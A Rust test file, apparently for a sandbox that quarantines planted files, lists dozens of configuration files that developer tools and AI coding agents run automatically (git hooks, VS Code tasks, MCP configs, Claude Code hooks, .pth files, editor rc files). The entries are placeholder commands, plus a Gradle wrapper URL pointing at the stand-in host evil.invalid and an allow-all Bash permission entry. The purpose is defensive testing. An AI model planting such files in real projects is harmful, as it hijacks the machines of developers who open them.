//! Files that some tool of the host executes or obeys, one by one: made inside, gone outside, and in the quarantine.
#![allow(clippy::unwrap_used)]

use std::collections::BTreeSet;

use hermes_tests::{PYTHON, Sandbox, need, run_to_end};

/// Path, content, who runs it, and where that is written.
type File = (&'static str, &'static str, &'static str, &'static str);

/// What matters most, beside git's own files.
const FIRST: &[File] = &[
    (".envrc", "touch x", "direnv at the prompt", "direnv(1)"),
    (".husky/pre-commit", "touch x", "git through core.hooksPath", "husky documentation, How to"),
    (".husky/_/pre-commit", "touch x", "git through core.hooksPath", "husky documentation, How to"),
    (
        "mise.toml",
        "[hooks]\nenter = \"touch x\"\n[env]\nA = \"{{exec(command='x')}}\"\n",
        "mise at the prompt",
        "mise documentation, Hooks",
    ),
    (".mise.toml", "[hooks]\nenter = \"touch x\"\n", "mise at the prompt", "mise documentation, Hooks"),
    (
        ".vscode/tasks.json",
        r#"{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"x","runOptions":{"runOn":"folderOpen"}}]}"#,
        "VS Code when the directory is opened",
        "VS Code documentation, Tasks",
    ),
    (
        ".vscode/settings.json",
        r#"{"git.path":"./x","python.defaultInterpreterPath":"./x"}"#,
        "VS Code and its extensions",
        "VS Code documentation, Settings",
    ),
    (
        ".vscode/mcp.json",
        r#"{"servers":{"x":{"command":"./x"}}}"#,
        "VS Code starts servers",
        "VS Code documentation, MCP servers",
    ),
    (
        ".idea/workspace.xml",
        "<project version=\"4\"><component name=\"RunManager\"><configuration type=\"ShConfigurationType\"><option name=\"SCRIPT_TEXT\" value=\"x\"/></configuration></component><component name=\"ProjectTasksOptions\"><TaskOptions isEnabled=\"true\"><option name=\"program\" value=\"./x\"/></TaskOptions></component></project>",
        "JetBrains run configurations",
        "IntelliJ IDEA help, Run configurations",
    ),
    (
        ".idea/watcherTasks.xml",
        "<project version=\"4\"><component name=\"ProjectTasksOptions\"><TaskOptions isEnabled=\"true\"><option name=\"program\" value=\"./x\"/></TaskOptions></component></project>",
        "JetBrains file watchers",
        "IntelliJ IDEA help, File watchers",
    ),
    (
        ".devcontainer/devcontainer.json",
        r#"{"initializeCommand":"touch x"}"#,
        "Dev Containers on the host",
        "containers.dev, JSON reference",
    ),
    (".devcontainer.json", r#"{"initializeCommand":"touch x"}"#, "Dev Containers on the host", "containers.dev, JSON reference"),
    (
        ".claude/settings.json",
        r#"{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"x"}]}]}}"#,
        "Claude Code",
        "Claude Code documentation, Settings",
    ),
    (
        ".claude/settings.local.json",
        r#"{"permissions":{"allow":["Bash(*)"]}}"#,
        "Claude Code",
        "Claude Code documentation, Settings",
    ),
    (".mcp.json", r#"{"mcpServers":{"x":{"command":"./x"}}}"#, "agents start servers", "Claude Code documentation, MCP"),
    (".cursor/mcp.json", r#"{"mcpServers":{"x":{"command":"./x"}}}"#, "Cursor starts servers", "Cursor documentation, MCP"),
    (
        ".cursor/hooks.json",
        r#"{"version":1,"hooks":{"stop":[{"command":"./x"}]}}"#,
        "Cursor's agent loop",
        "Cursor documentation, Hooks",
    ),
    (".npmrc", "script-shell=./x\n", "npm, pnpm", "npm documentation, config"),
    (".yarnrc.yml", "yarnPath: ./x.cjs\n", "any yarn", "Yarn documentation, yarnrc"),
    (".yarn/releases/yarn-4.0.0.cjs", "x", "any yarn through yarnPath", "Yarn documentation, yarnrc"),
    (".yarn/plugins/@x/plugin.cjs", "x", "any yarn", "Yarn documentation, Plugins"),
    (".cargo/config.toml", "[build]\nrustc-wrapper = \"./x\"\n", "cargo, rust-analyzer", "The Cargo Book, Configuration"),
    (".cargo/config", "[target.x86_64-unknown-linux-gnu]\nrunner = \"./x\"\n", "cargo", "The Cargo Book, Configuration"),
    (
        "venv/lib/python3.11/site-packages/sitecustomize.py",
        "import os",
        "every Python of the environment",
        "Python documentation, site",
    ),
    (
        "venv/lib/python3.11/site-packages/x.pth",
        "import os; os.system('x')\n",
        "every Python of the environment",
        "Python documentation, site",
    ),
];

/// Further ones, whatever they hold.
const MORE: &[File] = &[
    (".vimrc", "!touch x", "vim with exrc", "vim help, 'exrc'"),
    (".exrc", "!touch x", "vim with exrc", "vim help, 'exrc'"),
    (".nvimrc", "!touch x", "nvim with exrc", "nvim help, 'exrc'"),
    (".nvim.lua", "os.execute('x')", "nvim with exrc", "nvim help, 'exrc'"),
    (".lazy.lua", "os.execute('x')", "lazy.nvim", "lazy.nvim documentation, local_spec"),
    (".dir-locals.el", "((nil . ((eval . (shell-command \"x\")))))", "Emacs", "Emacs manual, Directory Variables"),
    (
        ".zed/settings.json",
        r#"{"lsp":{"rust-analyzer":{"binary":{"path":"./x"}}}}"#,
        "Zed: language servers",
        "Zed documentation, Configuring Zed",
    ),
    (".zed/tasks.json", r#"[{"label":"x","command":"./x"}]"#, "Zed", "Zed documentation, Tasks"),
    (
        ".helix/languages.toml",
        "[language-server.x]\ncommand = \"./x\"\n",
        "Helix: language servers",
        "Helix documentation, Languages",
    ),
    (
        ".run/x.run.xml",
        "<component name=\"ProjectRunConfigurationManager\"><configuration name=\"x\"><option name=\"SCRIPT_TEXT\" value=\"x\"/></configuration></component>",
        "JetBrains run configurations",
        "IntelliJ IDEA help, Run configurations",
    ),
    (".gdbinit", "shell touch x", "gdb", "gdb manual, Init File in the Current Directory"),
    (".lldbinit", "platform shell touch x", "lldb", "lldb manual page"),
    (".codex/config.toml", "[mcp_servers.x]\ncommand = \"./x\"\n", "Codex", "Codex documentation, config"),
    (
        ".gemini/settings.json",
        r#"{"mcpServers":{"x":{"command":"./x"}}}"#,
        "Gemini CLI",
        "Gemini CLI documentation, Configuration",
    ),
    ("opencode.json", r#"{"mcp":{"x":{"type":"local","command":["./x"]}}}"#, "OpenCode", "OpenCode documentation, Config"),
    (".opencode/plugin/x.js", "x", "OpenCode", "OpenCode documentation, Plugins"),
    (".aider.conf.yml", "test-cmd: ./x\nauto-test: true\n", "aider", "aider documentation, YAML config"),
    (".roo/mcp.json", r#"{"mcpServers":{"x":{"command":"./x"}}}"#, "Roo Code", "Roo Code documentation, MCP"),
    (".qwen/settings.json", r#"{"mcpServers":{"x":{"command":"./x"}}}"#, "Qwen Code", "Qwen Code documentation, settings"),
    (
        "lefthook.yml",
        "pre-commit:\n  commands:\n    x:\n      run: touch x\n",
        "git through installed hooks",
        "lefthook documentation",
    ),
    (
        ".overcommit.yml",
        "PreCommit:\n  X:\n    enabled: true\n    command: ['./x']\n",
        "git through installed hooks",
        "overcommit README",
    ),
    (".pnpmfile.cjs", "require('child_process')", "pnpm install", "pnpm documentation, .pnpmfile.cjs"),
    (".yarnrc", "yarn-path \"./x.js\"\n", "any yarn 1", "Yarn 1 documentation, yarnrc"),
    (".mvn/jvm.config", "-javaagent:x.jar", "any mvn", "Maven documentation, Configuring"),
    (
        ".mvn/extensions.xml",
        "<extensions><extension><groupId>x</groupId><artifactId>x</artifactId><version>1</version></extension></extensions>",
        "any mvn",
        "Maven documentation, Core extensions",
    ),
    (
        "gradle/wrapper/gradle-wrapper.properties",
        "distributionUrl=https\\://evil.invalid/x.zip\n",
        "gradlew, IDE import",
        "Gradle manual, Wrapper",
    ),
    (".jvmopts", "-javaagent:x.jar", "sbt", "sbt manual, Command line"),
    (
        ".bsp/x.json",
        r#"{"name":"x","argv":["./x"],"version":"1","bspVersion":"2.1.0","languages":[]}"#,
        "IDE import",
        "Build Server Protocol, BSP connection details",
    ),
    (".bazelrc", "build --workspace_status_command=./x", "bazel", "Bazel documentation, bazelrc"),
    ("tools/bazel", "#!/bin/sh\ntouch x\n", "bazelisk wrapper", "bazelisk README"),
    (".tool-versions", "python path:/var/tmp/x\n", "asdf shims", "asdf documentation, Configuration"),
    ("rust-toolchain.toml", "[toolchain]\npath = \"/var/tmp/x\"\n", "rustup's proxies", "rustup book, Overrides"),
    (".bundle/config", "BUNDLE_PATH: x\n", "bundler", "bundle-config(1)"),
    (".irbrc", "system 'x'", "irb", "irb documentation, IRBRC"),
    (".pryrc", "system 'x'", "pry", "pry wiki, Pry rc"),
    (".Rprofile", "system('x')", "R", "R documentation, Startup"),
    (".ghci", ":! x", "ghci", "GHC user's guide, .ghci"),
    (".pdbrc", "import os", "pdb", "Python documentation, pdb"),
    (".latexmkrc", "system('x');", "latexmk", "latexmk manual"),
    ("ansible.cfg", "[defaults]\nlibrary = ./x\n", "ansible", "Ansible documentation, ansible.cfg in a world writable directory"),
    (
        "Directory.Build.props",
        "<Project><Target Name=\"x\" BeforeTargets=\"Restore\"><Exec Command=\"x\"/></Target></Project>",
        "dotnet, IDE restore",
        "MSBuild documentation, Customize by directory",
    ),
    (".hg/hgrc", "[hooks]\nupdate = touch x\n", "hg", "hgrc(5)"),
    (".bashrc", "touch x", "bash with its HOME here", "bash(1)"),
    (".tmux.conf", "run-shell x", "tmux with its HOME here", "tmux(1)"),
];

/// Beyond the project's list of rules; each is read from the working directory or run when an editor opens a file.
const BEYOND: &[File] = &[
    (".iex.exs", "System.cmd(\"x\", [])", "iex, from the working directory", "Elixir documentation, IEx: the .iex.exs file"),
    (".ocamlinit", "Sys.command \"x\"", "ocaml, from the working directory", "OCaml manual, The toplevel system"),
    (".perldb", "system 'x'", "perl -d, from the working directory", "perldebug(1)"),
    ("bunfig.toml", "preload = [\"./x.ts\"]\n", "bun", "Bun documentation, bunfig.toml"),
    (".pylintrc", "[MASTER]\ninit-hook='import os'\n", "pylint, also from editors", "Pylint documentation, init-hook"),
    (".ycm_extra_conf.py", "import os", "YouCompleteMe", "YouCompleteMe README"),
    (".kiro/settings/mcp.json", r#"{"mcpServers":{"x":{"command":"./x"}}}"#, "Kiro starts servers", "Kiro documentation, MCP"),
    (".byebugrc", "eval system('x')", "byebug, from the working directory", "byebug guide"),
];

/// Their neighbours, which nobody runs by itself.
const HARMLESS: &[&str] = &[
    "envrc",
    "vscode/tasks.json",
    "tasks.json",
    "settings.json",
    "husky/pre-commit",
    "claude/settings.json",
    "mcp.txt",
    "cargo/config.toml",
    "gdbinit",
    "vimrc.md",
    "docs/tmux.conf",
    "x.pth.txt",
    "sitecustomize.md",
    "src/ghci.hs",
    ".editorconfig",
    ".gitignore",
    ".dockerignore",
];

/// Makes all files of a list inside, at the top and deep below; returns what came out and what the quarantine lacks.
fn plant(files: &[File]) -> (BTreeSet<String>, BTreeSet<String>) {
    need_no_sandbox(files);
    let sandbox = Sandbox::new();
    if files.iter().any(|file| file.0.starts_with("venv/")) {
        sandbox.write("venv/pyvenv.cfg", "home = /usr/bin\n");
        sandbox.write("deep/er/venv/pyvenv.cfg", "home = /usr/bin\n");
    }
    let run = sandbox.python(&program(files));
    run.ok().never_says("FAILED");
    let paths = |prefix: &str| files.iter().map(|file| format!("{prefix}{}", file.0)).collect::<Vec<_>>();
    let all = [paths(""), paths("deep/er/")].concat();
    let came_out = all.iter().filter(|path| sandbox.workspace.join(path).exists()).cloned().collect();
    let lost: Vec<_> = HARMLESS.iter().filter(|path| !sandbox.workspace.join(path).exists()).collect();
    assert!(lost.is_empty(), "ordinary files are gone: {lost:?}");
    let aside = sandbox.put_aside();
    let silent = all.into_iter().filter(|path| !aside.iter().any(|one| one.concerns(path))).collect();
    let wrong: Vec<_> = HARMLESS.iter().filter(|path| aside.iter().any(|one| one.path == **path)).collect();
    assert!(wrong.is_empty(), "ordinary files were put aside: {wrong:?}");
    (came_out, silent)
}

/// A program that writes the files.
fn program(files: &[File]) -> String {
    let list = serde_json::json!(files.iter().map(|file| (file.0, file.1)).collect::<Vec<_>>()).to_string();
    format!(
        "import json, os\nfor path, text in json.loads({list:?}) + [(p, 'x') for p in {HARMLESS:?}]:\n\
         \x20for base in ('', 'deep/er/'):\n\
         \x20 os.makedirs(os.path.dirname(base + path) or '.', exist_ok=True)\n\
         \x20 f = open(base + path, 'w'); f.write(text); f.close(); os.chmod(base + path, 0o755)\n\
         \x20 open(base + path).read() == text or print('FAILED', path)\n"
    )
}

/// Without a sandbox every file is there afterwards.
fn need_no_sandbox(files: &[File]) {
    let control = Sandbox::new();
    run_to_end(control.plain_command(PYTHON).args(["-c", &program(files)])).ok().never_says("FAILED");
    for file in files {
        assert_eq!(control.read(file.0), file.1, "positive control: {} is written as given", file.0);
        assert_eq!(control.read(format!("deep/er/{}", file.0)), file.1);
    }
}

#[track_caller]
fn assert_guarded(files: &[File]) {
    let (came_out, silent) = plant(files);
    let why = files.iter().filter(|file| came_out.contains(file.0)).map(|file| format!("{}: {} ({})", file.0, file.2, file.3));
    assert!(came_out.is_empty(), "on the host: {came_out:#?}\n{:#?}", why.collect::<Vec<_>>());
    assert!(silent.is_empty(), "not in the quarantine: {silent:#?}");
}

#[test]
fn files_that_matter_most_are_put_aside() {
    need!(PYTHON);
    assert_guarded(FIRST);
}

#[test]
fn further_files_that_tools_run_are_put_aside() {
    need!(PYTHON);
    assert_guarded(MORE);
}

#[test]
fn files_beyond_the_list_of_rules_are_put_aside() {
    need!(PYTHON);
    assert_guarded(BEYOND);
}

#[test]
fn a_directory_of_the_hosts_path_is_guarded() {
    let sandbox = Sandbox::new();
    let bin = sandbox.workspace.join("tools/bin");
    sandbox.script("tools/bin/own", "#!/bin/sh\necho OWN\n");
    let path = format!("{}:/usr/local/bin:/usr/bin:/bin", bin.display());
    let sandbox = sandbox.env("PATH", path);
    let plant = "printf '#!/bin/sh\\necho PLANT\\n' > tools/bin/ls; chmod +x tools/bin/ls; echo 'echo PLANT' >> tools/bin/own";
    let control = Sandbox::new();
    control.script("tools/bin/own", "#!/bin/sh\necho OWN\n");
    control.plain_sh(plant).ok();
    control.plain_sh("PATH=$PWD/tools/bin:$PATH; ls; own").ok().says("PLANT\nOWN\nPLANT");
    sandbox.sh(plant).ok();
    sandbox.plain_sh("ls; own").ok().says("OWN").never_says("PLANT");
}

#[test]
fn python_runs_nothing_that_was_planted_into_its_environment() {
    need!(PYTHON);
    let site = "d=$(echo venv/lib/python3*/site-packages); echo 'print(\"PLANT\")' > $d/sitecustomize.py; echo 'import sys; print(\"PLANT\")' > $d/x.pth; \
        echo 'print(\"PLANT\")' > $d/usercustomize.py";
    let make = format!("{PYTHON} -m venv --without-pip venv");
    let control = Sandbox::new();
    control.plain_sh(&make).ok();
    control.plain_sh(site).ok();
    control.plain_sh("venv/bin/python -c 'print(1)'").ok().says("PLANT");
    let sandbox = Sandbox::new();
    sandbox.plain_sh(&make).ok();
    sandbox.sh(&format!("{site}; venv/bin/python -c 'print(1)'")).ok().says("PLANT");
    sandbox.plain_sh("venv/bin/python -c 'print(1)'").ok().never_says("PLANT");
}
